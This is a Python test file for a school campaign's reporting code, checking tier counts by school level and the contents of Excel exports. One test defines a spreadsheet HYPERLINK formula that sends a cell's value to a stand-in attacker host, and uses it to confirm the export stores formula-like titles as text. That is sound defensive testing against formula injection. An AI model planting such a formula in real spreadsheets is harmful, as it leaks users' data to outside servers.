import io
from types import SimpleNamespace

from openpyxl import load_workbook

from campaign.greennet import reports, services
from campaign.greennet.models import Tier
from core.schools.models import SchoolLevel


def standing(level, tier):
    return SimpleNamespace(school=SimpleNamespace(level=level), tier=tier)


def test_tier_counts_has_every_level_and_tier_with_zeros():
    rows = [
        standing(SchoolLevel.TH, Tier.GOOD),
        standing(SchoolLevel.TH, Tier.GOOD),
        standing(SchoolLevel.MN, Tier.FAIL),
        standing(SchoolLevel.TH, Tier.EXCELLENT),
    ]

    counts = reports.tier_counts(rows)

    assert counts.to_dict(orient="index") == {
        SchoolLevel.MN: {Tier.EXCELLENT: 0, Tier.GOOD: 0, Tier.PASS: 0, Tier.FAIL: 1},
        SchoolLevel.TH: {Tier.EXCELLENT: 1, Tier.GOOD: 2, Tier.PASS: 0, Tier.FAIL: 0},
        SchoolLevel.THCS: {Tier.EXCELLENT: 0, Tier.GOOD: 0, Tier.PASS: 0, Tier.FAIL: 0},
    }


def test_tier_counts_of_no_school_are_all_zero():
    counts = reports.tier_counts([])

    assert counts.to_numpy().tolist() == [[0, 0, 0, 0]] * 3


def test_district_xlsx_counts_schools_per_level_and_tier(gn, submitted):
    activity = submitted(score=50)
    services.approve_activity(actor=gn["organizer"], activity=activity)

    data = reports.district_xlsx(gn["movement"])

    sheet = load_workbook(io.BytesIO(data))["Xếp loại"]
    assert list(sheet.iter_rows(values_only=True)) == [
        ("Cấp học", "Số trường", "Xuất sắc", "Tốt", "Đạt", "Chưa đạt"),
        ("Mầm non", 0, 0, 0, 0, 0),
        ("Tiểu học", 0, 0, 0, 0, 0),
        ("THCS", 2, 0, 0, 1, 1),
    ]


FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"x")'


def test_school_report_writes_a_formula_looking_activity_title_as_text(gn, new_activity):
    new_activity(title=FORMULA)

    data = reports.school_xlsx(gn["movement"], gn["a"])

    sheet = load_workbook(io.BytesIO(data))["Hoạt động"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert len(cells) == 1
    assert cells[0].data_type == "s"
